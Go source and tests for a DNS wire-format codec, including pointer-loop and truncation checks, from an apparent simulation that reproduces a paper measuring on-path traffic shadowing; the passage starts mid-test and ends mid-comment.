		resp := NewResponse(q, RcodeNoError)
		resp.Answers = append(resp.Answers, RR{Name: name, Type: TypeA, TTL: 60})
		rb, err := resp.Encode()
		if err != nil {
			t.Fatalf("encode response %q: %v", name, err)
		}
		corpus = append(corpus, rb)
	}
	// A query with an additional record, which forces the slow path.
	withAdd := NewQuery(7, "extra.example", TypeA)
	withAdd.Additional = append(withAdd.Additional, RR{Name: "ns.example", Type: TypeA, TTL: 1})
	if b, err := withAdd.Encode(); err == nil {
		corpus = append(corpus, b)
	}
	corpus = append(corpus, []byte("junk"), nil)

	for _, full := range corpus {
		for end := 0; end <= len(full); end++ {
			data := full[:end]
			wantName, wantOK := refQueryName(data)
			gotName, gotOK := QueryNameFromBytes(data)
			if gotName != wantName || gotOK != wantOK {
				t.Fatalf("QueryNameFromBytes(%x) = (%q, %v), Decode path = (%q, %v)",
					data, gotName, gotOK, wantName, wantOK)
			}
		}
	}
}

func BenchmarkQueryNameFromBytes(b *testing.B) {
	q := NewQuery(0x1234, "abc123def456.www.experiment.example", TypeA)
	data, err := q.Encode()
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, ok := QueryNameFromBytes(data); !ok {
			b.Fatal("sniff failed")
		}
	}
}
