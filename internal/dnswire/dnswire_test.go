package dnswire

import (
	"strings"
	"testing"
	"testing/quick"

	"shadowmeter/internal/wire"
)

func TestQueryRoundTrip(t *testing.T) {
	q := NewQuery(0xABCD, "g6d8jjkut5obc4-9982.www.experiment.domain", TypeA)
	data, err := q.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Header.ID != 0xABCD || got.Header.QR || !got.Header.RD {
		t.Errorf("header mismatch: %+v", got.Header)
	}
	if got.QName() != "g6d8jjkut5obc4-9982.www.experiment.domain" {
		t.Errorf("QName = %q", got.QName())
	}
	if got.QType() != TypeA {
		t.Errorf("QType = %d", got.QType())
	}
}

func TestResponseRoundTrip(t *testing.T) {
	q := NewQuery(7, "www.example.com", TypeA)
	resp := NewResponse(q, RcodeNoError)
	resp.Header.AA = true
	resp.Answers = append(resp.Answers,
		RR{Name: "www.example.com", Type: TypeCNAME, TTL: 3600, Target: "edge.example.com"},
		RR{Name: "edge.example.com", Type: TypeA, TTL: 3600, Addr: wire.AddrFrom(93, 184, 216, 34)},
	)
	resp.Authority = append(resp.Authority,
		RR{Name: "example.com", Type: TypeNS, TTL: 86400, Target: "ns1.example.com"},
	)
	resp.Additional = append(resp.Additional,
		RR{Name: "ns1.example.com", Type: TypeA, TTL: 86400, Addr: wire.AddrFrom(192, 0, 2, 53)},
	)
	data, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Header.QR || !got.Header.AA || got.Header.ID != 7 {
		t.Errorf("header: %+v", got.Header)
	}
	if len(got.Answers) != 2 || len(got.Authority) != 1 || len(got.Additional) != 1 {
		t.Fatalf("section sizes: %d/%d/%d", len(got.Answers), len(got.Authority), len(got.Additional))
	}
	if got.Answers[0].Type != TypeCNAME || got.Answers[0].Target != "edge.example.com" {
		t.Errorf("CNAME = %+v", got.Answers[0])
	}
	if got.Answers[1].Addr != wire.AddrFrom(93, 184, 216, 34) {
		t.Errorf("A = %+v", got.Answers[1])
	}
	if got.Authority[0].Target != "ns1.example.com" {
		t.Errorf("NS = %+v", got.Authority[0])
	}
}

func TestNameCompressionSavesSpace(t *testing.T) {
	// Repeated long suffixes should be pointer-compressed.
	q := NewQuery(1, "a.very.long.experiment.domain.example", TypeA)
	resp := NewResponse(q, RcodeNoError)
	for i := 0; i < 5; i++ {
		resp.Answers = append(resp.Answers, RR{
			Name: "a.very.long.experiment.domain.example", Type: TypeA, TTL: 60,
			Addr: wire.AddrFrom(10, 0, 0, byte(i+1)),
		})
	}
	data, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	nameLen := len("a.very.long.experiment.domain.example") + 2
	uncompressed := 12 + nameLen + 4 + 5*(nameLen+10+4)
	if len(data) >= uncompressed {
		t.Errorf("no compression: %d >= %d", len(data), uncompressed)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range got.Answers {
		if a.Name != "a.very.long.experiment.domain.example" {
			t.Errorf("answer %d name = %q", i, a.Name)
		}
	}
}

func TestTXTRoundTrip(t *testing.T) {
	q := NewQuery(3, "probe.example", TypeTXT)
	resp := NewResponse(q, RcodeNoError)
	resp.Answers = append(resp.Answers, RR{Name: "probe.example", Type: TypeTXT, TTL: 60, Text: "shadowmeter-experiment"})
	data, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Answers[0].Text != "shadowmeter-experiment" {
		t.Errorf("TXT = %q", got.Answers[0].Text)
	}
}

func TestSOANegativeResponse(t *testing.T) {
	q := NewQuery(4, "nonexistent.experiment.domain", TypeA)
	resp := NewResponse(q, RcodeNXDomain)
	resp.Authority = append(resp.Authority, RR{Name: "experiment.domain", Type: TypeSOA, TTL: 300, Target: "ns.experiment.domain"})
	data, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Header.Rcode != RcodeNXDomain {
		t.Errorf("rcode = %d", got.Header.Rcode)
	}
	if len(got.Authority) != 1 || got.Authority[0].Type != TypeSOA || got.Authority[0].Target != "ns.experiment.domain" {
		t.Errorf("SOA = %+v", got.Authority)
	}
}

func TestDecodeErrors(t *testing.T) {
	if _, err := Decode(nil); err != ErrTruncated {
		t.Errorf("nil: %v", err)
	}
	if _, err := Decode(make([]byte, 5)); err != ErrTruncated {
		t.Errorf("short: %v", err)
	}
	// Header claiming one question but no question bytes.
	hdr := make([]byte, 12)
	hdr[5] = 1 // QDCount = 1
	if _, err := Decode(hdr); err == nil {
		t.Error("truncated question should fail")
	}
}

func TestCompressionPointerLoop(t *testing.T) {
	// Craft a message with a self-referencing pointer in the question name.
	data := make([]byte, 16)
	data[5] = 1 // QDCount
	data[12] = 0xC0
	data[13] = 12 // pointer to itself
	if _, err := Decode(data); err == nil {
		t.Error("pointer loop should be rejected")
	}
}

func TestForwardPointerRejected(t *testing.T) {
	data := make([]byte, 20)
	data[5] = 1
	data[12] = 0xC0
	data[13] = 14 // forward pointer
	if _, err := Decode(data); err == nil {
		t.Error("forward pointer should be rejected")
	}
}

func TestNameLimits(t *testing.T) {
	longLabel := strings.Repeat("a", 64)
	q := NewQuery(1, longLabel+".example", TypeA)
	if _, err := q.Encode(); err != ErrLabelTooLong {
		t.Errorf("long label: %v", err)
	}
	longName := strings.Repeat("abcdefg.", 40) // 320 chars
	q = NewQuery(1, longName+"example", TypeA)
	if _, err := q.Encode(); err != ErrNameTooLong {
		t.Errorf("long name: %v", err)
	}
	q = NewQuery(1, "a..b", TypeA)
	if _, err := q.Encode(); err != ErrBadName {
		t.Errorf("empty label: %v", err)
	}
}

func TestRootName(t *testing.T) {
	q := NewQuery(1, ".", TypeNS)
	data, err := q.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.QName() != "" {
		t.Errorf("root QName = %q", got.QName())
	}
}

func TestCaseInsensitiveDecode(t *testing.T) {
	q := NewQuery(1, "WwW.ExAmPlE.CoM", TypeA)
	data, err := q.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.QName() != "www.example.com" {
		t.Errorf("QName = %q, want lowercase", got.QName())
	}
}

func TestCanonical(t *testing.T) {
	cases := map[string]string{
		"Example.COM.": "example.com",
		"example.com":  "example.com",
		".":            "",
		"":             "",
	}
	for in, want := range cases {
		if got := Canonical(in); got != want {
			t.Errorf("Canonical(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestIsSubdomain(t *testing.T) {
	cases := []struct {
		name, zone string
		want       bool
	}{
		{"a.experiment.domain", "experiment.domain", true},
		{"experiment.domain", "experiment.domain", true},
		{"notexperiment.domain", "experiment.domain", false},
		{"a.b.c.experiment.domain", "experiment.domain", true},
		{"experiment.domain", "a.experiment.domain", false},
		{"anything", "", true},
	}
	for _, tc := range cases {
		if got := IsSubdomain(tc.name, tc.zone); got != tc.want {
			t.Errorf("IsSubdomain(%q, %q) = %v", tc.name, tc.zone, got)
		}
	}
}

func TestFirstLabelParent(t *testing.T) {
	if FirstLabel("id123.www.experiment.domain") != "id123" {
		t.Error("FirstLabel")
	}
	if Parent("id123.www.experiment.domain") != "www.experiment.domain" {
		t.Error("Parent")
	}
	if Parent("tld") != "" {
		t.Error("Parent of single label")
	}
}

func TestQueryRoundTripProperty(t *testing.T) {
	letters := "abcdefghijklmnopqrstuvwxyz0123456789"
	f := func(id uint16, seed int64) bool {
		// Build a pseudo-random valid name from the seed.
		n := int(seed%3) + 1
		var labels []string
		s := uint64(seed)
		for i := 0; i < n; i++ {
			l := int(s%20) + 1
			s = s*6364136223846793005 + 1442695040888963407
			var lb strings.Builder
			for j := 0; j < l; j++ {
				lb.WriteByte(letters[int(s%uint64(len(letters)))])
				s = s*6364136223846793005 + 1442695040888963407
			}
			labels = append(labels, lb.String())
		}
		name := strings.Join(labels, ".")
		q := NewQuery(id, name, TypeA)
		data, err := q.Encode()
		if err != nil {
			return false
		}
		got, err := Decode(data)
		if err != nil {
			return false
		}
		return got.Header.ID == id && got.QName() == name
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func BenchmarkEncodeQuery(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		q := NewQuery(uint16(i), "g6d8jjkut5obc4-9982.www.experiment.domain", TypeA)
		if _, err := q.Encode(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDecodeResponse(b *testing.B) {
	q := NewQuery(9, "www.experiment.domain", TypeA)
	resp := NewResponse(q, RcodeNoError)
	resp.Answers = append(resp.Answers, RR{Name: "www.experiment.domain", Type: TypeA, TTL: 3600, Addr: wire.AddrFrom(203, 0, 113, 10)})
	data, _ := resp.Encode()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Decode(data); err != nil {
			b.Fatal(err)
		}
	}
}
