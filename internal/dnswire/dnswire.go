// Package dnswire implements the DNS message wire format (RFC 1035): header,
// question, resource records, and name compression. It is the codec used by
// decoy generation, the simulated resolver fleet, the honeypot authoritative
// server, and on-path observers that sniff QNAMEs.
package dnswire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"strings"

	"shadowmeter/internal/identifier"
	"shadowmeter/internal/wire"
)

// Record types used by the simulator.
const (
	TypeA     uint16 = 1
	TypeNS    uint16 = 2
	TypeCNAME uint16 = 5
	TypeSOA   uint16 = 6
	TypeTXT   uint16 = 16
	TypeAAAA  uint16 = 28
	TypeANY   uint16 = 255
)

// ClassIN is the Internet class.
const ClassIN uint16 = 1

// Response codes.
const (
	RcodeNoError  uint8 = 0
	RcodeFormErr  uint8 = 1
	RcodeServFail uint8 = 2
	RcodeNXDomain uint8 = 3
	RcodeRefused  uint8 = 5
)

// Opcode values.
const OpcodeQuery uint8 = 0

// Errors returned by the codec.
var (
	ErrTruncated    = errors.New("dnswire: truncated message")
	ErrBadName      = errors.New("dnswire: malformed domain name")
	ErrBadPointer   = errors.New("dnswire: bad compression pointer")
	ErrNameTooLong  = errors.New("dnswire: name exceeds 255 octets")
	ErrLabelTooLong = errors.New("dnswire: label exceeds 63 octets")
)

// Header is the fixed 12-byte DNS header.
type Header struct {
	ID      uint16
	QR      bool  // response flag
	Opcode  uint8 // 4 bits
	AA      bool  // authoritative answer
	TC      bool  // truncated
	RD      bool  // recursion desired
	RA      bool  // recursion available
	Rcode   uint8 // 4 bits
	QDCount uint16
	ANCount uint16
	NSCount uint16
	ARCount uint16
}

// Question is one entry of the question section.
type Question struct {
	Name  string
	Type  uint16
	Class uint16
}

// RR is a resource record. Rdata holds the record-specific payload, already
// in wire form except for name-bearing types (CNAME/NS), which store the
// presentation-form target in Target for readability.
type RR struct {
	Name   string
	Type   uint16
	Class  uint16
	TTL    uint32
	Addr   wire.Addr // for A records
	Target string    // for CNAME/NS/SOA mname
	Text   string    // for TXT
}

// Message is a complete DNS message.
type Message struct {
	Header     Header
	Questions  []Question
	Answers    []RR
	Authority  []RR
	Additional []RR
}

// NewQuery builds a standard recursive query for (name, qtype).
func NewQuery(id uint16, name string, qtype uint16) *Message {
	return &Message{
		Header:    Header{ID: id, RD: true, QDCount: 1},
		Questions: []Question{{Name: name, Type: qtype, Class: ClassIN}},
	}
}

// QueryInto is NewQuery for senders that own a scratch Message: m is
// overwritten in place with its Questions array reused. Safe whenever the
// message is fully serialized before the scratch's next use.
func QueryInto(m *Message, id uint16, name string, qtype uint16) {
	*m = Message{
		Header:    Header{ID: id, RD: true, QDCount: 1},
		Questions: append(m.Questions[:0], Question{Name: name, Type: qtype, Class: ClassIN}),
		Answers:   m.Answers[:0], Authority: m.Authority[:0], Additional: m.Additional[:0],
	}
}

// NewResponse builds a response skeleton for q with the given rcode.
func NewResponse(q *Message, rcode uint8) *Message {
	resp := &Message{
		Header: Header{
			ID: q.Header.ID, QR: true, Opcode: q.Header.Opcode,
			RD: q.Header.RD, RA: true, Rcode: rcode,
		},
	}
	resp.Questions = append(resp.Questions, q.Questions...)
	return resp
}

// ResponseInto is NewResponse for reply loops that own a scratch Message:
// resp is overwritten in place, its section slices truncated and reused.
// The questions (and their name strings) are copied out of q, so resp
// remains valid when q is itself scratch and reused for the next decode.
func ResponseInto(resp *Message, q *Message, rcode uint8) {
	*resp = Message{
		Header: Header{
			ID: q.Header.ID, QR: true, Opcode: q.Header.Opcode,
			RD: q.Header.RD, RA: true, Rcode: rcode,
		},
		Questions:  append(resp.Questions[:0], q.Questions...),
		Answers:    resp.Answers[:0],
		Authority:  resp.Authority[:0],
		Additional: resp.Additional[:0],
	}
}

// QName returns the first question name, or "" if none.
func (m *Message) QName() string {
	if len(m.Questions) == 0 {
		return ""
	}
	return m.Questions[0].Name
}

// QType returns the first question type, or 0 if none.
func (m *Message) QType() uint16 {
	if len(m.Questions) == 0 {
		return 0
	}
	return m.Questions[0].Type
}

// Encoder holds reusable encode scratch — the output buffer and the name
// compression offsets — for call sites that serialize many messages from
// one goroutine (resolver reply loops, honeypot answers, probe emitters).
// The zero value is ready to use.
type Encoder struct {
	buf     []byte
	offsets map[string]int // FQDN -> offset of its first encoding
}

// Encode serializes the message to wire format with a private encoder,
// returning a buffer the caller owns. Header counts are derived from the
// section slices, overriding the caller's values.
func (m *Message) Encode() ([]byte, error) {
	e := Encoder{buf: make([]byte, 0, 512)}
	return m.AppendEncode(&e)
}

// AppendEncode serializes the message reusing enc's scratch. The returned
// slice aliases enc's internal buffer and is valid only until the next
// AppendEncode call — callers must copy (or hand the bytes to something
// that copies, like a packet builder) before encoding again.
func (m *Message) AppendEncode(enc *Encoder) ([]byte, error) {
	e := enc
	e.buf = e.buf[:0]
	if e.offsets == nil {
		e.offsets = make(map[string]int, 8)
	} else {
		clear(e.offsets)
	}
	h := m.Header
	h.QDCount = uint16(len(m.Questions))
	h.ANCount = uint16(len(m.Answers))
	h.NSCount = uint16(len(m.Authority))
	h.ARCount = uint16(len(m.Additional))

	var flags uint16
	if h.QR {
		flags |= 1 << 15
	}
	flags |= uint16(h.Opcode&0xF) << 11
	if h.AA {
		flags |= 1 << 10
	}
	if h.TC {
		flags |= 1 << 9
	}
	if h.RD {
		flags |= 1 << 8
	}
	if h.RA {
		flags |= 1 << 7
	}
	flags |= uint16(h.Rcode & 0xF)

	e.u16(h.ID)
	e.u16(flags)
	e.u16(h.QDCount)
	e.u16(h.ANCount)
	e.u16(h.NSCount)
	e.u16(h.ARCount)

	for _, q := range m.Questions {
		if err := e.name(q.Name); err != nil {
			return nil, err
		}
		e.u16(q.Type)
		e.u16(q.Class)
	}
	for _, sec := range [][]RR{m.Answers, m.Authority, m.Additional} {
		for i := range sec {
			if err := e.rr(&sec[i]); err != nil {
				return nil, err
			}
		}
	}
	return e.buf, nil
}

func (e *Encoder) u16(v uint16) {
	e.buf = append(e.buf, byte(v>>8), byte(v))
}

func (e *Encoder) u32(v uint32) {
	e.buf = append(e.buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
}

// name writes a possibly-compressed domain name.
func (e *Encoder) name(n string) error {
	n = Canonical(n)
	if n == "." || n == "" {
		e.buf = append(e.buf, 0)
		return nil
	}
	if len(n) > 254 { // 255 octets on the wire incl. length bytes
		return ErrNameTooLong
	}
	rest := n
	for rest != "" {
		if off, ok := e.offsets[rest]; ok && off < 0x3FFF {
			e.u16(0xC000 | uint16(off))
			return nil
		}
		if len(e.buf) < 0x3FFF {
			e.offsets[rest] = len(e.buf)
		}
		i := strings.IndexByte(rest, '.')
		var label string
		if i < 0 {
			label, rest = rest, ""
		} else {
			label, rest = rest[:i], rest[i+1:]
		}
		if label == "" {
			return ErrBadName
		}
		if len(label) > 63 {
			return ErrLabelTooLong
		}
		e.buf = append(e.buf, byte(len(label)))
		e.buf = append(e.buf, label...)
	}
	e.buf = append(e.buf, 0)
	return nil
}

func (e *Encoder) rr(r *RR) error {
	if err := e.name(r.Name); err != nil {
		return err
	}
	e.u16(r.Type)
	cls := r.Class
	if cls == 0 {
		cls = ClassIN
	}
	e.u16(cls)
	e.u32(r.TTL)
	switch r.Type {
	case TypeA:
		e.u16(4)
		e.buf = append(e.buf, r.Addr[:]...)
	case TypeCNAME, TypeNS:
		// RDLENGTH must be patched after the (possibly compressed) name.
		lenAt := len(e.buf)
		e.u16(0)
		start := len(e.buf)
		if err := e.name(r.Target); err != nil {
			return err
		}
		binary.BigEndian.PutUint16(e.buf[lenAt:lenAt+2], uint16(len(e.buf)-start))
	case TypeTXT:
		if len(r.Text) > 255 {
			return fmt.Errorf("dnswire: TXT string too long: %d", len(r.Text))
		}
		e.u16(uint16(1 + len(r.Text)))
		e.buf = append(e.buf, byte(len(r.Text)))
		e.buf = append(e.buf, r.Text...)
	case TypeSOA:
		// Minimal SOA: mname, rname ".", five zero timers — enough for
		// negative responses in the honeypot/resolver fleet.
		lenAt := len(e.buf)
		e.u16(0)
		start := len(e.buf)
		if err := e.name(r.Target); err != nil {
			return err
		}
		if err := e.name("hostmaster." + Canonical(r.Target)); err != nil {
			return err
		}
		for i := 0; i < 5; i++ {
			e.u32(r.TTL)
		}
		binary.BigEndian.PutUint16(e.buf[lenAt:lenAt+2], uint16(len(e.buf)-start))
	default:
		return fmt.Errorf("dnswire: cannot encode record type %d", r.Type)
	}
	return nil
}

// Decode parses a wire-format DNS message into a fresh Message the caller
// owns outright.
func Decode(data []byte) (*Message, error) {
	var m Message
	if err := DecodeInto(&m, data); err != nil {
		return nil, err
	}
	return &m, nil
}

// DecodeInto parses a wire-format DNS message into m, reusing m's section
// slices (truncated and refilled in place). Decoded names and TXT payloads
// are freshly allocated strings, so nothing in m aliases data — but the
// section backing arrays are recycled across calls, so DecodeInto is only
// for call sites that fully consume (or copy out of) one message before
// decoding the next. Everyone else should use Decode.
func DecodeInto(m *Message, data []byte) error {
	*m = Message{
		Questions:  m.Questions[:0],
		Answers:    m.Answers[:0],
		Authority:  m.Authority[:0],
		Additional: m.Additional[:0],
	}
	if len(data) < 12 {
		return ErrTruncated
	}
	h := &m.Header
	h.ID = binary.BigEndian.Uint16(data[0:2])
	flags := binary.BigEndian.Uint16(data[2:4])
	h.QR = flags&(1<<15) != 0
	h.Opcode = uint8(flags >> 11 & 0xF)
	h.AA = flags&(1<<10) != 0
	h.TC = flags&(1<<9) != 0
	h.RD = flags&(1<<8) != 0
	h.RA = flags&(1<<7) != 0
	h.Rcode = uint8(flags & 0xF)
	h.QDCount = binary.BigEndian.Uint16(data[4:6])
	h.ANCount = binary.BigEndian.Uint16(data[6:8])
	h.NSCount = binary.BigEndian.Uint16(data[8:10])
	h.ARCount = binary.BigEndian.Uint16(data[10:12])

	off := 12
	for i := 0; i < int(h.QDCount); i++ {
		name, n, err := decodeName(data, off)
		if err != nil {
			return err
		}
		off = n
		if off+4 > len(data) {
			return ErrTruncated
		}
		m.Questions = append(m.Questions, Question{
			Name:  name,
			Type:  binary.BigEndian.Uint16(data[off : off+2]),
			Class: binary.BigEndian.Uint16(data[off+2 : off+4]),
		})
		off += 4
	}
	var err error
	if m.Answers, off, err = decodeRRs(m.Answers, data, off, int(h.ANCount)); err != nil {
		return err
	}
	if m.Authority, off, err = decodeRRs(m.Authority, data, off, int(h.NSCount)); err != nil {
		return err
	}
	if m.Additional, _, err = decodeRRs(m.Additional, data, off, int(h.ARCount)); err != nil {
		return err
	}
	return nil
}

// decodeRRs appends count records onto dst, reusing its backing array.
func decodeRRs(dst []RR, data []byte, off, count int) ([]RR, int, error) {
	if count == 0 {
		return dst, off, nil
	}
	rrs := dst
	if rrs == nil {
		rrs = make([]RR, 0, count)
	}
	for i := 0; i < count; i++ {
		name, n, err := decodeName(data, off)
		if err != nil {
			return nil, 0, err
		}
		off = n
		if off+10 > len(data) {
			return nil, 0, ErrTruncated
		}
		var r RR
		r.Name = name
		r.Type = binary.BigEndian.Uint16(data[off : off+2])
		r.Class = binary.BigEndian.Uint16(data[off+2 : off+4])
		r.TTL = binary.BigEndian.Uint32(data[off+4 : off+8])
		rdlen := int(binary.BigEndian.Uint16(data[off+8 : off+10]))
		off += 10
		if off+rdlen > len(data) {
			return nil, 0, ErrTruncated
		}
		rdata := data[off : off+rdlen]
		switch r.Type {
		case TypeA:
			if rdlen != 4 {
				return nil, 0, fmt.Errorf("dnswire: A record rdlength %d", rdlen)
			}
			copy(r.Addr[:], rdata)
		case TypeCNAME, TypeNS:
			t, _, err := decodeName(data, off)
			if err != nil {
				return nil, 0, err
			}
			r.Target = t
		case TypeTXT:
			if rdlen > 0 {
				sl := int(rdata[0])
				if sl+1 > rdlen {
					return nil, 0, ErrTruncated
				}
				r.Text = string(rdata[1 : 1+sl])
			}
		case TypeSOA:
			t, _, err := decodeName(data, off)
			if err != nil {
				return nil, 0, err
			}
			r.Target = t
		}
		off += rdlen
		rrs = append(rrs, r)
	}
	return rrs, off, nil
}

// decodeName reads a possibly-compressed name starting at off, returning the
// presentation-form name (lowercase, no trailing dot) and the offset just
// past the name in the original (non-pointer) encoding. The name assembles
// in a stack buffer — lowercased as it is copied — so the only allocation
// is the returned string.
func decodeName(data []byte, off int) (string, int, error) {
	// 253 presentation octets is the longest legal name; anything that
	// overruns the buffer is ErrNameTooLong whenever it terminates.
	var buf [254]byte
	n := 0
	nonASCII := false
	end := -1 // offset after the name in the original stream
	jumps := 0
	for {
		if off >= len(data) {
			return "", 0, ErrTruncated
		}
		b := data[off]
		switch {
		case b == 0:
			if end < 0 {
				end = off + 1
			}
			if n > 253 {
				return "", 0, ErrNameTooLong
			}
			if nonASCII {
				// Match strings.ToLower on the original bytes exactly
				// (multi-byte case folding) for the rare non-ASCII name.
				return strings.ToLower(string(buf[:n])), end, nil
			}
			return string(buf[:n]), end, nil
		case b&0xC0 == 0xC0:
			if off+1 >= len(data) {
				return "", 0, ErrTruncated
			}
			ptr := int(binary.BigEndian.Uint16(data[off:off+2]) & 0x3FFF)
			if end < 0 {
				end = off + 2
			}
			if ptr >= off || jumps > 32 {
				return "", 0, ErrBadPointer
			}
			off = ptr
			jumps++
		case b&0xC0 != 0:
			return "", 0, ErrBadName
		default:
			l := int(b)
			if off+1+l > len(data) {
				return "", 0, ErrTruncated
			}
			if n > 0 {
				if n >= len(buf) {
					return "", 0, ErrNameTooLong
				}
				buf[n] = '.'
				n++
			}
			if n+l > len(buf) {
				return "", 0, ErrNameTooLong
			}
			for i := 0; i < l; i++ {
				c := data[off+1+i]
				if 'A' <= c && c <= 'Z' {
					c += 'a' - 'A'
				} else if c >= 0x80 {
					nonASCII = true
				}
				buf[n] = c
				n++
			}
			off += 1 + l
		}
	}
}

// Interner is the subset of identifier.Interner the sniff fast path
// needs; an interface here keeps the wire codec free of experiment types.
type Interner interface {
	Intern(s string) string
	InternBytes(b []byte) string
}

// QueryNameFromBytes extracts the first question name of a wire-format DNS
// query without materializing the whole message: the observer-tap fast
// path, which runs on every packet crossing a tapped router. It returns
// ok=false for responses, truncated messages, and anything the full decoder
// would reject; messages with extra sections or compression pointers take
// the slow path through Decode so the two agree on every input.
func QueryNameFromBytes(data []byte) (string, bool) {
	return QueryNameInterned(data, nil)
}

// QueryNameInterned is QueryNameFromBytes with the extracted name routed
// through in (when non-nil), so repeated sightings of one experiment
// domain cost no allocation.
func QueryNameInterned(data []byte, in Interner) (string, bool) {
	if len(data) < 12 {
		return "", false
	}
	flags := binary.BigEndian.Uint16(data[2:4])
	if flags&(1<<15) != 0 {
		return "", false // response, not a query
	}
	qd := binary.BigEndian.Uint16(data[4:6])
	if qd == 0 {
		return "", false
	}
	if qd > 1 || data[6]|data[7]|data[8]|data[9]|data[10]|data[11] != 0 {
		return queryNameSlow(data, in)
	}
	// Single question, no other sections: read the name in place.
	var buf [253]byte
	n := 0
	off := 12
	for {
		if off >= len(data) {
			return "", false
		}
		b := data[off]
		switch {
		case b == 0:
			if off+5 > len(data) {
				return "", false // QTYPE/QCLASS missing
			}
			// Devirtualize the common interner: a static call to the
			// concrete InternBytes (whose parameter does not escape)
			// keeps buf on the stack, where the interface call would
			// force it to the heap on every packet sniffed.
			if ci, ok := in.(*identifier.Interner); ok && ci != nil {
				return ci.InternBytes(buf[:n]), true
			}
			if in != nil {
				return in.Intern(string(buf[:n])), true
			}
			return string(buf[:n]), true
		case b&0xC0 == 0xC0:
			return queryNameSlow(data, in) // compressed name: full decoder
		case b&0xC0 != 0:
			return "", false
		default:
			l := int(b)
			if off+1+l > len(data) {
				return "", false
			}
			if n > 0 {
				if n+1+l > len(buf) {
					return "", false
				}
				buf[n] = '.'
				n++
			} else if l > len(buf) {
				return "", false
			}
			for i := 0; i < l; i++ {
				c := data[off+1+i]
				if 'A' <= c && c <= 'Z' {
					c += 'a' - 'A'
				} else if c >= 0x80 {
					return queryNameSlow(data, in) // non-ASCII case folding
				}
				buf[n] = c
				n++
			}
			off += 1 + l
		}
	}
}

// queryNameSlow is QueryNameFromBytes's fallback for message shapes the
// in-place scanner does not handle.
func queryNameSlow(data []byte, in Interner) (string, bool) {
	msg, err := Decode(data)
	if err != nil || msg.Header.QR || len(msg.Questions) == 0 {
		return "", false
	}
	if in != nil {
		return in.Intern(msg.QName()), true
	}
	return msg.QName(), true
}

// Canonical lowercases a domain name and strips any trailing dot, giving the
// form used as map keys throughout the pipeline.
func Canonical(name string) string {
	return strings.ToLower(strings.TrimSuffix(name, "."))
}

// IsSubdomain reports whether name is equal to or under zone.
func IsSubdomain(name, zone string) bool {
	name, zone = Canonical(name), Canonical(zone)
	if zone == "" {
		return true
	}
	return name == zone || strings.HasSuffix(name, "."+zone)
}

// FirstLabel returns the left-most label of name, or "" for the root.
func FirstLabel(name string) string {
	name = Canonical(name)
	if i := strings.IndexByte(name, '.'); i >= 0 {
		return name[:i]
	}
	return name
}

// Parent returns name with its left-most label removed ("" at the root).
func Parent(name string) string {
	name = Canonical(name)
	if i := strings.IndexByte(name, '.'); i >= 0 {
		return name[i+1:]
	}
	return ""
}
