// Package shadowmeter is a simulation-backed reproduction of "Yesterday
// Once More: Global Measurement of Internet Traffic Shadowing Behaviors"
// (IMC 2024): a complete measurement pipeline for detecting on-path
// parties that silently record domains from user traffic (DNS query names,
// HTTP Host headers, TLS SNI) and later replay them as unsolicited
// requests.
//
// The public API wraps the experiment orchestrator:
//
//	report := shadowmeter.Run(shadowmeter.Config{Seed: 42})
//	fmt.Println(report.Render())
//
// runs the full two-phase experiment — decoy generation, a screened
// VPN-based vantage platform, honeypot capture, hop-by-hop observer
// location — against a deterministic simulated Internet, and returns a
// Report able to regenerate every table and figure of the paper. See
// DESIGN.md for the architecture and EXPERIMENTS.md for paper-vs-measured
// results.
//
// Lower-level building blocks (the wire codecs, the identifier scheme, the
// network simulator) live under internal/ and are exercised through this
// façade, the cmd/ tools, and the runnable examples/.
package shadowmeter

import (
	"shadowmeter/internal/core"
)

// Config parameterizes an experiment. The zero value runs the
// laptop-friendly small-scale geometry with seed 0.
type Config = core.Config

// Scale selects the experiment geometry.
type Scale = core.Scale

// Experiment scales.
const (
	// ScaleSmall is a CI-friendly world: ~100 vantage points, ~120 web
	// destinations. Runs in seconds.
	ScaleSmall = core.ScaleSmall
	// ScaleMedium grows the fleet to ~400 VPs / 300 destinations.
	ScaleMedium = core.ScaleMedium
	// ScaleFull reproduces the paper's geometry (4,364 VPs, 2,325 web
	// front-ends). Expect minutes of wall clock.
	ScaleFull = core.ScaleFull
)

// Report is the compiled outcome: one field group per paper table/figure,
// plus Render() for the full plain-text report.
type Report = core.Report

// Experiment exposes stepwise control (screening, Phase I, Phase II,
// Compile) for callers that want to interleave their own analysis.
type Experiment = core.Experiment

// Zone is the experiment domain embedded in every decoy.
const Zone = core.Zone

// Run executes the complete experiment: world construction, platform
// screening (Appendix C/E), Phase I landscape measurement, Phase II
// hop-by-hop observer location, and behavioral analysis.
func Run(cfg Config) *Report {
	return core.Run(cfg)
}

// MitigationMode selects a mitigation-study decoy encoding.
type MitigationMode = core.MitigationMode

// Mitigation modes for MitigationStudy.
const (
	MitigationNone = core.MitigationNone
	MitigationECH  = core.MitigationECH
	MitigationDoH  = core.MitigationDoH
	MitigationODoH = core.MitigationODoH
)

// MitigationResult is one mode's outcome in the mitigation study.
type MitigationResult = core.MitigationResult

// MitigationStudy quantifies the paper's Discussion-section mitigations:
